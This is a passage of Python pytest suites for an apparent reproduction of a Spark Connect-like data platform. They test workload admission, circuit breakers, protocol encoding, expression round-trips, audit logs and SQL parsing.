        mgr = make_manager(total_slots=1)
        ctx = QueryContext.create(user="alice", clock=VirtualClock())
        with mgr.execution_slot(ctx) as ticket:
            assert ticket is None
        assert mgr.slots_in_use() == 0


class TestStatsSnapshot:
    def test_snapshot_exposes_manager_and_tenant_metrics(self):
        mgr = make_manager(total_slots=2)
        mgr.admit("alice").release()
        with pytest.raises(AdmissionError):
            mgr.configure_tenant("bob", TenantPolicy(rate_per_second=0.001, burst=0))
            mgr.admit("bob")
        snapshot = mgr.stats_snapshot()
        assert snapshot["total_slots"] == 2
        assert snapshot["admitted_total"] == 1
        assert snapshot["rejected_rate_limited"] == 1
        assert snapshot["tenant.alice.admitted"] == 1
        assert snapshot["tenant.bob.rejected"] == 1


class TestCircuitBreaker:
    def _failing(self):
        raise ClusterError("backend down")

    def test_consecutive_failures_trip_breaker(self):
        clock = VirtualClock()
        breaker = CircuitBreaker(
            clock=clock, failure_threshold=3, base_backoff=1.0, jitter=0.0
        )
        for _ in range(3):
            with pytest.raises(ClusterError):
                breaker.call(self._failing)
        assert breaker.state == STATE_OPEN
        with pytest.raises(CircuitOpenError) as exc_info:
            breaker.call(lambda: "ok")
        assert exc_info.value.retry_after > 0

    def test_half_open_probe_closes_on_success(self):
        clock = VirtualClock()
        breaker = CircuitBreaker(
            clock=clock, failure_threshold=2, base_backoff=1.0, jitter=0.0
        )
        for _ in range(2):
            with pytest.raises(ClusterError):
                breaker.call(self._failing)
        clock.advance(1.5)
        assert breaker.state == STATE_HALF_OPEN
        assert breaker.call(lambda: "ok") == "ok"
        assert breaker.state == STATE_CLOSED

    def test_half_open_failure_doubles_backoff(self):
        clock = VirtualClock()
        breaker = CircuitBreaker(
            clock=clock, failure_threshold=2, base_backoff=1.0, jitter=0.0
        )
        for _ in range(2):
            with pytest.raises(ClusterError):
                breaker.call(self._failing)
        first_backoff = breaker.stats_snapshot()["current_backoff_seconds"]
        clock.advance(1.5)
        with pytest.raises(ClusterError):
            breaker.call(self._failing)
        assert breaker.state == STATE_OPEN
        second_backoff = breaker.stats_snapshot()["current_backoff_seconds"]
        assert second_backoff == pytest.approx(first_backoff * 2)

    def test_backoff_resets_after_recovery(self):
        clock = VirtualClock()
        breaker = CircuitBreaker(
            clock=clock, failure_threshold=1, base_backoff=1.0, jitter=0.0
        )
        with pytest.raises(ClusterError):
            breaker.call(self._failing)
        clock.advance(1.5)
        with pytest.raises(ClusterError):
            breaker.call(self._failing)  # failed half-open probe: doubles
        assert breaker.stats_snapshot()["current_backoff_seconds"] == (
            pytest.approx(2.0)
        )
        clock.advance(2.5)
        assert breaker.call(lambda: "ok") == "ok"
        assert breaker.state == STATE_CLOSED
        # A fresh outage after full recovery starts from base_backoff again
        # — the backoff exponent is per-outage, not the lifetime open count.
        with pytest.raises(ClusterError):
            breaker.call(self._failing)
        snapshot = breaker.stats_snapshot()
        assert snapshot["current_backoff_seconds"] == pytest.approx(1.0)
        assert snapshot["open_count"] == 3  # lifetime stat still cumulative

    def test_retry_with_backoff_retries_then_succeeds(self):
        clock = VirtualClock()
        attempts: list[int] = []

        def flaky() -> str:
            attempts.append(1)
            if len(attempts) < 3:
                raise ClusterError("transient")
            return "ok"

        result = retry_with_backoff(
            flaky, clock=clock, retries=3, retry_on=(ClusterError,)
        )
        assert result == "ok"
        assert len(attempts) == 3

    def test_retry_gives_up_after_budget(self):
        clock = VirtualClock()
        with pytest.raises(ClusterError):
            retry_with_backoff(
                self._failing, clock=clock, retries=2, retry_on=(ClusterError,)
            )

    def test_open_breaker_is_not_waited_out_inline(self):
        clock = VirtualClock()
        breaker = CircuitBreaker(
            clock=clock, failure_threshold=1, base_backoff=60.0, jitter=0.0
        )
        with pytest.raises(ClusterError):
            breaker.call(self._failing)
        started = clock.now()
        with pytest.raises(CircuitOpenError):
            retry_with_backoff(
                lambda: breaker.call(lambda: "ok"),
                clock=clock,
                retries=3,
                retry_on=(ClusterError, CircuitOpenError),
            )
        # The long open-backoff was NOT slept through by the retry helper.
        assert clock.now() - started < 60.0


class TestErrorCodec:
    def test_admission_error_round_trip(self):
        original = AdmissionError(
            "too busy", retry_after=1.5, reason="queue_full"
        )
        message = error_to_message(original)
        assert message["error_class"] == "AdmissionError"
        with pytest.raises(AdmissionError) as exc_info:
            raise_from_message(message)
        assert exc_info.value.retry_after == 1.5
        assert exc_info.value.reason == "queue_full"

    def test_circuit_open_error_round_trip(self):
        message = error_to_message(CircuitOpenError("open", retry_after=2.0))
        assert message["error_class"] == "CircuitOpenError"
        with pytest.raises(CircuitOpenError) as exc_info:
            raise_from_message(message)
        assert exc_info.value.retry_after == 2.0

    def test_deadline_error_is_typed_on_the_wire(self):
        message = error_to_message(QueryDeadlineExceeded("late"))
        assert message["error_class"] == "QueryDeadlineExceeded"
        with pytest.raises(QueryDeadlineExceeded):
            raise_from_message(message)


# ---------------------------------------------------------------------------
# Integration: workspace / service / gateway wiring
# ---------------------------------------------------------------------------


@pytest.fixture
def small_workspace():
    """A workspace with one admin, two users, and one governed table."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    cat = ws.catalog
    cat.create_catalog("m", owner="admin")
    cat.create_schema("m.s", owner="admin")
    return ws


def _grant_read(admin_client, table: str, user: str) -> None:
    admin_client.sql(f"GRANT USE CATALOG ON m TO {user}")
    admin_client.sql(f"GRANT USE SCHEMA ON m.s TO {user}")
    admin_client.sql(f"GRANT SELECT ON {table} TO {user}")


class TestServiceAdmissionWiring:
    def test_queries_pass_through_the_manager(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        admin.sql("INSERT INTO m.s.t VALUES (1), (2)")
        assert len(admin.sql("SELECT id FROM m.s.t").collect()) == 2
        snapshot = cluster.workload_manager.stats_snapshot()
        assert snapshot["admitted_total"] >= 3
        assert snapshot["slots_in_use"] == 0  # everything released
        assert snapshot["tenant.admin.admitted"] >= 3

    def test_execute_span_carries_admission_attributes(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        admin.sql("INSERT INTO m.s.t VALUES (1)")
        admin.sql("SELECT id FROM m.s.t").collect()
        spans = [
            s
            for s in ws.catalog.telemetry.spans(kind="pipeline.stage")
            if s.name == "stage:execute" and "admission_tenant" in s.attributes
        ]
        assert spans
        assert spans[-1].attributes["admission_tenant"] == "admin"

    def test_disabled_manager_keeps_legacy_path(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster(
            name="legacy", enable_workload_manager=False
        )
        assert cluster.workload_manager is None
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.legacy (id int)")
        admin.sql("INSERT INTO m.s.legacy VALUES (1)")
        assert len(admin.sql("SELECT id FROM m.s.legacy").collect()) == 1

    def test_rate_limited_tenant_gets_retryable_wire_error(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        cluster.workload_manager.configure_tenant(
            "bob", TenantPolicy(rate_per_second=0.0001, burst=1)
        )
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        admin.sql("INSERT INTO m.s.t VALUES (1)")
        _grant_read(admin, "m.s.t", "bob")
        bob = cluster.connect("bob")
        assert len(bob.sql("SELECT id FROM m.s.t").collect()) == 1
        with pytest.raises(AdmissionError) as exc_info:
            bob.sql("SELECT id FROM m.s.t").collect()
        assert exc_info.value.reason == "rate_limited"
        assert exc_info.value.retry_after > 0

    def test_system_tables_stay_readable_under_saturation(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster(workload_slots=1)
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        # Occupy the single slot out-of-band, then read a system table.
        held = cluster.workload_manager.admit("squatter")
        try:
            rows = admin.sql(
                "SELECT scope, metric, value FROM system.access.workload_stats"
            ).collect()
            assert rows
        finally:
            held.release()
        assert cluster.workload_manager.system_bypass >= 1

    def test_system_literal_cannot_escape_admission(self, small_workspace):
        """A ``system.`` substring inside a string literal must not route
        the query onto the unthrottled system lane (admission bypass)."""
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.notes (id int, note string)")
        admin.sql("INSERT INTO m.s.notes VALUES (1, 'see system.docs')")
        bypass_before = cluster.workload_manager.system_bypass
        admitted_before = cluster.workload_manager.admitted_total
        rows = admin.sql(
            "SELECT id FROM m.s.notes WHERE note = 'see system.docs'"
        ).collect()
        assert len(rows) == 1
        assert cluster.workload_manager.system_bypass == bypass_before
        assert cluster.workload_manager.admitted_total == admitted_before + 1

    def test_mixed_system_and_user_reads_are_admitted_normally(
        self, small_workspace
    ):
        """Joining a system table with a user table is not pure
        introspection: it must pass through ordinary admission."""
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        bypass_before = cluster.workload_manager.system_bypass
        admin.sql(
            "SELECT t.id FROM m.s.t t "
            "JOIN system.access.workload_stats w ON t.id = t.id"
        ).collect()
        assert cluster.workload_manager.system_bypass == bypass_before


class TestQueuedInterrupt:
    def test_interrupt_dequeues_queued_operation(self, small_workspace):
        """The satellite regression: interrupting a QUEUED operation must
        dequeue it, release its reservation, and fail its admit() call."""
        ws = small_workspace
        cluster = ws.create_standard_cluster(workload_slots=1)
        service = cluster.service
        admin_session = service.handle(
            "create_session", {"user": "admin", "client_version": 4}
        )["session_id"]
        base = {"user": "admin", "session_id": admin_session, "client_version": 4}
        list(
            service.handle_stream(
                "execute_plan",
                {**base, "plan": proto.sql_command("CREATE TABLE m.s.t (id int)")},
            )
        )
        held = cluster.workload_manager.admit("squatter")
        responses: list[dict] = []

        def run_queued() -> None:
            responses.extend(
                service.handle_stream(
                    "execute_plan",
                    {
                        **base,
                        "operation_id": "op-queued",
                        "plan": proto.read_table("m.s.t"),
                    },
                )
            )

        thread = threading.Thread(target=run_queued)
        thread.start()
        op = None

        def queued() -> bool:
            nonlocal op
            try:
                op = service.sessions.get_operation("op-queued", admin_session)
            except Exception:
                return False
            return op.status == OP_QUEUED and op.ticket is not None

        wait_until(queued)
        result = service.handle(
            "interrupt", {**base, "operation_id": "op-queued"}
        )
        assert result.get("interrupted") is True
        thread.join(timeout=5)
        assert responses and responses[0]["@type"] == "error"
        assert responses[0]["error_class"] == "AdmissionError"
        assert responses[0]["reason"] == "cancelled"
        # The op is tombstoned as interrupted; queue and slot are clean.
        assert service.sessions._tombstones["op-queued"] == OP_INTERRUPTED
        assert cluster.workload_manager.queue_depth() == 0
        held.release()
        assert cluster.workload_manager.slots_in_use() == 0

    def test_interrupt_running_op_keeps_slot_until_completion(self):
        """Interrupting a RUNNING operation must not free its slot while
        the serving thread is still executing (there is no preemption);
        repeated interrupts previously overcommitted the slot pool."""
        from repro.catalog.privileges import UserContext
        from repro.connect.sessions import OP_RUNNING, SessionManager

        mgr = make_manager(total_slots=1)
        sessions = SessionManager()
        session = sessions.create_session(UserContext(user="alice"))
        op = sessions.start_operation(session.session_id)
        op.ticket = mgr.admit("alice")
        op.status = OP_RUNNING
        sessions.interrupt_operation(op.operation_id, session.session_id)
        assert sessions._tombstones[op.operation_id] == OP_INTERRUPTED
        # The serving thread still occupies the slot...
        assert mgr.slots_in_use() == 1
        assert op.ticket is not None and op.ticket.state == "ADMITTED"
        # ...until its completion bracket releases the ticket.
        op.ticket.release()
        assert mgr.slots_in_use() == 0


class TestWorkloadStatsTable:
    def test_admins_see_scheduler_and_breaker_metrics(self, small_workspace):
        ws = small_workspace
        _ = ws.serverless  # instantiate the gateway so its breaker registers
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        rows = admin.sql(
            "SELECT scope, metric, value FROM system.access.workload_stats"
        ).collect()
        scopes = {r[0] for r in rows}
        assert any(s.startswith("workload[") for s in scopes)
        assert "efgac_breaker[serverless]" in scopes
        metrics = {(r[0], r[1]): r[2] for r in rows}
        assert metrics[("efgac_breaker[serverless]", "state")] == 0.0

    def test_non_admins_are_denied(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int)")
        alice = cluster.connect("alice")
        from repro.errors import PermissionDenied

        with pytest.raises(PermissionDenied):
            alice.sql("SELECT * FROM system.access.workload_stats").collect()


class TestServerlessBreaker:
    def _efgac_workspace(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        ws.add_user("dana")
        cat = ws.catalog
        cat.create_catalog("m", owner="admin")
        cat.create_schema("m.s", owner="admin")
        serverless = ws.connect_serverless("admin")
        serverless.sql("CREATE TABLE m.s.gov (id int, v float)")
        serverless.sql("INSERT INTO m.s.gov VALUES (1, 1.0), (2, 2.0)")
        _grant_read(serverless, "m.s.gov", "dana")
        serverless.sql(
            "ALTER TABLE m.s.gov SET ROW FILTER (id > 0)"
        )
        cluster = ws.create_dedicated_cluster(assigned_user="dana")
        return ws, cluster

    def test_outage_trips_breaker_and_fails_fast(self):
        ws, cluster = self._efgac_workspace()
        dana = cluster.connect("dana")
        # Healthy path works (row-filtered table routes through eFGAC).
        assert len(dana.sql("SELECT id FROM m.s.gov").collect()) == 2
        gateway = ws.serverless
        gateway.set_outage(True)
        # Failures (with retries) accumulate until the breaker opens.
        saw_circuit_open = False
        for _ in range(6):
            with pytest.raises((ClusterError, CircuitOpenError)) as exc_info:
                dana.sql("SELECT id FROM m.s.gov").collect()
            if isinstance(exc_info.value, CircuitOpenError):
                saw_circuit_open = True
                assert exc_info.value.retry_after >= 0
                break
        assert saw_circuit_open
        assert gateway.breaker.state == STATE_OPEN
        # Recovery: outage ends, backoff elapses, a probe closes the breaker.
        gateway.set_outage(False)
        ws.clock.advance(120.0)
        assert len(dana.sql("SELECT id FROM m.s.gov").collect()) == 2
        assert gateway.breaker.state == STATE_CLOSED

    def test_breaker_stats_visible_in_workload_stats(self):
        ws, cluster = self._efgac_workspace()
        gateway = ws.serverless
        gateway.set_outage(True)
        dana = cluster.connect("dana")
        for _ in range(3):
            with pytest.raises((ClusterError, CircuitOpenError)):
                dana.sql("SELECT id FROM m.s.gov").collect()
        stats = ws.catalog.workload_stats()["efgac_breaker[serverless]"]
        assert stats["failures"] >= 1
        assert stats["state_name"] in (STATE_OPEN, STATE_CLOSED)


class TestHousekeepingTick:
    def test_request_path_tick_expires_idle_sessions(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        cluster = ws.create_standard_cluster()
        service = cluster.service
        service.sessions._ttl = 100.0
        service._housekeeping_interval = 50.0
        idle = service.handle(
            "create_session", {"user": "admin", "client_version": 4}
        )["session_id"]
        ws.clock.advance(150.0)
        # Any request triggers the tick; the idle session is gone after it.
        service.handle("create_session", {"user": "admin", "client_version": 4})
        from repro.errors import SessionError

        with pytest.raises(SessionError):
            service.sessions.get_session(idle, "admin")

    def test_manual_housekeeping_still_works(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        cluster = ws.create_standard_cluster()
        service = cluster.service
        service.sessions._ttl = 10.0
        service.handle("create_session", {"user": "admin", "client_version": 4})
        ws.clock.advance(20.0)
        report = service.housekeeping()
        assert len(report["expired_sessions"]) == 1

    def test_tick_can_be_disabled(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        cluster = ws.create_standard_cluster()
        service = cluster.service
        service._housekeeping_interval = None
        ws.clock.advance(10_000.0)
        assert service.maybe_housekeeping() is None


class TestDispatcherCharging:
    def test_sandbox_claims_are_charged_and_refunded(self, small_workspace):
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int, v float)")
        admin.sql("INSERT INTO m.s.t VALUES (1, 1.0)")
        from repro.connect.client import col, udf

        @udf("float")
        def double(x):
            return x * 2

        admin.table("m.s.t").select(double(col("v"))).collect()
        snapshot = cluster.workload_manager.stats_snapshot()
        assert snapshot["tenant.admin.sandbox_claims"] == 1
        admin.close()
        snapshot = cluster.workload_manager.stats_snapshot()
        assert snapshot["tenant.admin.sandbox_claims"] == 0

    def test_claims_follow_the_admission_tenant_override(self, small_workspace):
        """With a ``workload.tenant`` session override, sandbox claims debit
        the tenant the query was *admitted* under, not the raw user — the
        multi-user trust-domain accounting case."""
        ws = small_workspace
        cluster = ws.create_standard_cluster()
        admin = cluster.connect("admin")
        admin.set_config(**{"workload.tenant": "team-data"})
        admin.sql("CREATE TABLE m.s.t (id int, v float)")
        admin.sql("INSERT INTO m.s.t VALUES (1, 1.0)")
        from repro.connect.client import col, udf

        @udf("float")
        def double(x):
            return x * 2

        admin.table("m.s.t").select(double(col("v"))).collect()
        snapshot = cluster.workload_manager.stats_snapshot()
        assert snapshot["tenant.team-data.sandbox_claims"] == 1
        assert snapshot.get("tenant.admin.sandbox_claims", 0) == 0
        admin.close()
        snapshot = cluster.workload_manager.stats_snapshot()
        assert snapshot["tenant.team-data.sandbox_claims"] == 0
