"""Tests for the Spark Connect wire format and version negotiation."""

import pytest

from repro.connect import proto
from repro.errors import ProtocolError, VersionIncompatibleError


class TestEncoding:
    def test_roundtrip_plain(self):
        message = proto.read_table("main.s.t")
        assert proto.decode_message(proto.encode_message(message)) == message

    def test_roundtrip_bytes(self):
        message = proto.python_udf("f", "int", b"\x00\x01\xff", [proto.column("x")])
        decoded = proto.decode_message(proto.encode_message(message))
        assert decoded["func_blob"] == b"\x00\x01\xff"

    def test_roundtrip_nested_plan(self):
        plan = proto.limit(
            proto.filter_relation(
                proto.project(proto.read_table("t"), [proto.column("a")]),
                proto.binary(">", proto.column("a"), proto.literal(5)),
            ),
            10,
        )
        assert proto.decode_message(proto.encode_message(plan)) == plan

    def test_roundtrip_null_and_bool(self):
        message = proto.literal(None)
        assert proto.decode_message(proto.encode_message(message))["value"] is None
        message = proto.literal(True)
        assert proto.decode_message(proto.encode_message(message))["value"] is True

    def test_malformed_bytes(self):
        with pytest.raises(ProtocolError):
            proto.decode_message(b"\xff\xfe not json")

    def test_non_object_rejected(self):
        with pytest.raises(ProtocolError):
            proto.decode_message(b"[1, 2, 3]")

    def test_unserializable_rejected(self):
        with pytest.raises(ProtocolError):
            proto.encode_message({"@type": "x", "bad": object()})


class TestForwardCompatibility:
    def test_unknown_fields_survive_decode(self):
        """An old server must tolerate newer optional fields (§6.3)."""
        message = {
            "@type": "relation.read",
            "table": "t",
            "new_fancy_option": {"added_in": "v99"},
        }
        decoded = proto.decode_message(proto.encode_message(message))
        assert decoded["table"] == "t"  # known field intact
        assert "new_fancy_option" in decoded  # unknown field carried, ignored

    def test_message_type(self):
        assert proto.message_type(proto.read_table("t")) == "relation.read"
        with pytest.raises(ProtocolError):
            proto.message_type({"no": "type"})

    def test_command_vs_relation(self):
        assert proto.is_command(proto.sql_command("GRANT ..."))
        assert proto.is_relation(proto.sql_relation("SELECT 1"))
        assert not proto.is_command(proto.read_table("t"))


class TestVersionNegotiation:
    def test_older_client_accepted(self):
        proto.check_client_version(1, server_version=4)

    def test_equal_version_accepted(self):
        proto.check_client_version(4, server_version=4)

    def test_newer_client_rejected(self):
        with pytest.raises(VersionIncompatibleError):
            proto.check_client_version(5, server_version=4)

    def test_prehistoric_client_rejected(self):
        with pytest.raises(VersionIncompatibleError):
            proto.check_client_version(0, server_version=4)


class TestExtensionPoints:
    def test_relation_extension_shape(self):
        ext = proto.relation_extension("delta.time_travel", {"version": 3})
        assert ext["@type"] == "relation.extension"
        decoded = proto.decode_message(proto.encode_message(ext))
        assert decoded["payload"] == {"version": 3}

    def test_command_extension_shape(self):
        ext = proto.command_extension("delta.vacuum", {"retain_hours": 168})
        assert proto.is_command(ext)
