"""Equivalence of expression encoding across the eFGAC boundary.

The rewriter encodes *bound* engine expressions back into protocol form;
the remote endpoint decodes and re-binds them. For any safe expression,
evaluation before and after the round-trip must agree on every input.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.core.plan_codec import PlanDecoder, encode_expression
from repro.engine.batch import ColumnBatch
from repro.engine.expressions import (
    Arithmetic,
    BooleanOp,
    CaseWhen,
    Cast,
    Comparison,
    EvalContext,
    FunctionCall,
    InList,
    IsNull,
    Like,
    Not,
    bind_expression,
    col,
    lit,
)
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.engine.udf import udf
from repro.errors import ProtocolError

SCHEMA = Schema((Field("a", INT), Field("s", STRING), Field("f", FLOAT)))
BATCH = ColumnBatch.from_dict(
    SCHEMA,
    {
        "a": [1, -2, None, 100],
        "s": ["x", "yy", None, "x_z"],
        "f": [0.5, None, -3.25, 2.0],
    },
)
CTX = EvalContext(user="alice", groups=frozenset({"g1"}))


def roundtrip(expr):
    bound = bind_expression(expr, SCHEMA)
    encoded = encode_expression(bound)
    decoded = PlanDecoder("alice", lambda n: None).expression(encoded)
    rebound = bind_expression(decoded, SCHEMA)
    return bound, rebound


def assert_equivalent(expr):
    bound, rebound = roundtrip(expr)
    assert bound.eval(BATCH, CTX) == rebound.eval(BATCH, CTX)


class TestRoundTripEquivalence:
    def test_arithmetic(self):
        assert_equivalent(Arithmetic("+", col("a"), lit(10)))
        assert_equivalent(Arithmetic("/", col("f"), lit(2.0)))

    def test_comparison_and_boolean(self):
        assert_equivalent(
            BooleanOp(
                "AND",
                Comparison(">", col("a"), lit(0)),
                Not(IsNull(col("f"))),
            )
        )

    def test_in_and_like(self):
        assert_equivalent(InList(col("s"), ("x", "yy"), negated=True))
        assert_equivalent(Like(col("s"), "x%"))

    def test_case_when(self):
        assert_equivalent(
            CaseWhen(
                [(Comparison(">", col("a"), lit(0)), lit("pos"))], lit("other")
            )
        )

    def test_cast(self):
        assert_equivalent(Cast(col("a"), STRING))

    def test_builtin_function(self):
        assert_equivalent(FunctionCall("coalesce", (col("s"), lit("?"))))

    def test_session_expressions(self):
        from repro.engine.expressions import CurrentUser, IsAccountGroupMember

        assert_equivalent(
            BooleanOp(
                "OR",
                Comparison("=", CurrentUser(), lit("alice")),
                IsAccountGroupMember("g1"),
            )
        )

    def test_user_code_refuses_to_encode(self):
        @udf("int")
        def f(x):
            return x

        bound = bind_expression(f(col("a")), SCHEMA)
        with pytest.raises(ProtocolError, match="user code"):
            encode_expression(bound)

    @given(
        op=st.sampled_from(["+", "-", "*"]),
        value=st.integers(-1000, 1000),
        threshold=st.integers(-1000, 1000),
    )
    @settings(max_examples=60, deadline=None)
    def test_random_arith_comparison(self, op, value, threshold):
        expr = Comparison(
            ">", Arithmetic(op, col("a"), lit(value)), lit(threshold)
        )
        assert_equivalent(expr)

    @given(values=st.lists(st.text(max_size=4), min_size=1, max_size=5))
    @settings(max_examples=40, deadline=None)
    def test_random_in_lists(self, values):
        assert_equivalent(InList(col("s"), tuple(values)))

    @given(pattern=st.text(alphabet="ab%_x.", min_size=1, max_size=6))
    @settings(max_examples=40, deadline=None)
    def test_random_like_patterns(self, pattern):
        assert_equivalent(Like(col("s"), pattern))
