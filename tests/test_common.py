"""Tests for repro.common: clocks, ids, audit log."""

from repro.common import AuditLog, SystemClock, VirtualClock, new_id
from repro.common.ids import sequential_id

import pytest


class TestVirtualClock:
    def test_starts_at_zero(self):
        assert VirtualClock().now() == 0.0

    def test_custom_start(self):
        assert VirtualClock(start=100.0).now() == 100.0

    def test_sleep_advances(self):
        clock = VirtualClock()
        clock.sleep(2.5)
        clock.sleep(0.5)
        assert clock.now() == 3.0

    def test_advance_alias(self):
        clock = VirtualClock()
        clock.advance(1.0)
        assert clock.now() == 1.0

    def test_negative_sleep_rejected(self):
        with pytest.raises(ValueError):
            VirtualClock().sleep(-1.0)

    def test_sleep_is_instant_wall_time(self):
        import time

        clock = VirtualClock()
        started = time.monotonic()
        clock.sleep(1000.0)
        assert time.monotonic() - started < 0.5
        assert clock.now() == 1000.0


class TestSystemClock:
    def test_monotonic(self):
        clock = SystemClock()
        a = clock.now()
        b = clock.now()
        assert b >= a

    def test_sleep_zero_is_noop(self):
        SystemClock().sleep(0)
        SystemClock().sleep(-1)  # negative ignored


class TestIds:
    def test_prefix(self):
        assert new_id("session").startswith("session-")

    def test_uniqueness(self):
        ids = {new_id("x") for _ in range(1000)}
        assert len(ids) == 1000

    def test_sequential_ordering(self):
        a = sequential_id("op")
        b = sequential_id("op")
        assert a < b


class TestAuditLog:
    def _log(self):
        log = AuditLog()
        log.record(1.0, "alice", "storage.read", "s3://x/a", True)
        log.record(2.0, "bob", "storage.read", "s3://x/b", False)
        log.record(3.0, "alice", "catalog.check.select", "main.t", False)
        return log

    def test_len(self):
        assert len(self._log()) == 3

    def test_filter_principal(self):
        assert len(self._log().events(principal="alice")) == 2

    def test_filter_action(self):
        assert len(self._log().events(action="storage.read")) == 2

    def test_denials(self):
        denials = self._log().denials()
        assert len(denials) == 2
        assert all(not e.allowed for e in denials)

    def test_denials_for_principal(self):
        assert len(self._log().denials(principal="bob")) == 1

    def test_predicate(self):
        hits = self._log().events(predicate=lambda e: e.resource.startswith("s3://"))
        assert len(hits) == 2

    def test_details_captured(self):
        log = AuditLog()
        event = log.record(1.0, "u", "a", "r", True, token="t-1")
        assert event.details == {"token": "t-1"}

    def test_iteration_order(self):
        log = self._log()
        times = [e.timestamp for e in log]
        assert times == sorted(times)
