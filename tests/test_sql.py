"""Tests for the SQL front-end: lexer, parser, plan building, execution."""

import pytest

from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.expressions import CaseWhen, Comparison, CurrentUser, Literal
from repro.engine.logical import LocalRelation
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.engine.udf import udf
from repro.errors import ParseError
from repro.sql import ast_nodes as ast
from repro.sql.lexer import tokenize
from repro.sql.parser import parse_expression, parse_statement
from repro.sql.to_plan import PlanBuilder

SCHEMA = Schema(
    (
        Field("id", INT),
        Field("dept", STRING),
        Field("amount", FLOAT),
        Field("region", STRING),
    )
)
DATA = LocalRelation(
    SCHEMA,
    [
        [1, 2, 3, 4, 5],
        ["eng", "eng", "hr", "hr", "fin"],
        [10.0, 20.0, 30.0, 40.0, None],
        ["US", "EU", "US", "EU", "US"],
    ],
)


@pytest.fixture
def engine():
    return QueryEngine(DictResolver({"sales": DATA}))


def run(engine, sql, lookup=None):
    stmt = parse_statement(sql)
    plan = PlanBuilder(lookup).build(stmt)
    return engine.execute(plan).rows()


class TestLexer:
    def test_keywords_case_insensitive(self):
        tokens = tokenize("select FROM Where")
        assert [t.value for t in tokens[:-1]] == ["SELECT", "FROM", "WHERE"]

    def test_string_escaping(self):
        tokens = tokenize("'it''s'")
        assert tokens[0].value == "it's"

    def test_unterminated_string(self):
        with pytest.raises(ParseError):
            tokenize("'oops")

    def test_numbers(self):
        tokens = tokenize("1 2.5 0.125")
        assert [t.value for t in tokens[:-1]] == ["1", "2.5", "0.125"]

    def test_comments_skipped(self):
        tokens = tokenize("SELECT -- comment\n 1")
        assert [t.value for t in tokens[:-1]] == ["SELECT", "1"]

    def test_backquoted_identifier(self):
        tokens = tokenize("`weird name`")
        assert tokens[0].value == "weird name"

    def test_two_char_operators(self):
        tokens = tokenize("a <> b <= c >= d != e")
        ops = [t.value for t in tokens if t.kind == "OP"]
        assert ops == ["!=", "<=", ">=", "!="]

    def test_unexpected_character(self):
        with pytest.raises(ParseError):
            tokenize("SELECT @")


class TestExpressionParsing:
    def test_precedence_arith_over_comparison(self):
        expr = parse_expression("a + 1 > b * 2")
        assert isinstance(expr, Comparison)

    def test_precedence_and_over_or(self):
        expr = parse_expression("a = 1 OR b = 2 AND c = 3")
        assert expr.op == "OR"

    def test_parenthesized(self):
        expr = parse_expression("(a = 1 OR b = 2) AND c = 3")
        assert expr.op == "AND"

    def test_case_when(self):
        expr = parse_expression("CASE WHEN x > 1 THEN 'a' ELSE 'b' END")
        assert isinstance(expr, CaseWhen)

    def test_unary_minus_literal(self):
        expr = parse_expression("-5")
        assert isinstance(expr, Literal) and expr.value == -5

    def test_current_user(self):
        assert isinstance(parse_expression("current_user()"), CurrentUser)

    def test_in_list_requires_literals(self):
        with pytest.raises(ParseError):
            parse_expression("x IN (a, b)")

    def test_trailing_garbage(self):
        with pytest.raises(ParseError):
            parse_expression("1 + 2 extra")

    def test_is_not_null(self):
        expr = parse_expression("x IS NOT NULL")
        assert expr.negated

    def test_not_in(self):
        expr = parse_expression("x NOT IN (1, 2)")
        assert expr.negated


class TestStatementParsing:
    def test_create_view_captures_query_text(self):
        stmt = parse_statement("CREATE VIEW a.b.c AS SELECT 1 AS one")
        assert isinstance(stmt, ast.CreateViewStatement)
        assert stmt.query_sql == "SELECT 1 AS one"
        assert not stmt.materialized

    def test_create_materialized_view(self):
        stmt = parse_statement("CREATE MATERIALIZED VIEW a.b.c AS SELECT 1 AS x")
        assert stmt.materialized

    def test_create_table(self):
        stmt = parse_statement("CREATE TABLE a.b.t (id int, name string)")
        assert stmt.columns == [("id", "int"), ("name", "string")]

    def test_create_table_bad_type(self):
        with pytest.raises(Exception):
            parse_statement("CREATE TABLE a.b.t (id wibble)")

    def test_insert_multi_row(self):
        stmt = parse_statement("INSERT INTO a.b.t VALUES (1, 'x'), (2, 'y')")
        assert stmt.rows == [[1, "x"], [2, "y"]]

    def test_insert_negative_and_null(self):
        stmt = parse_statement("INSERT INTO a.b.t VALUES (-3, NULL)")
        assert stmt.rows == [[-3, None]]

    def test_grant_two_word_privilege(self):
        stmt = parse_statement("GRANT USE CATALOG ON main TO analysts")
        assert stmt.privilege == "USE_CATALOG"

    def test_revoke(self):
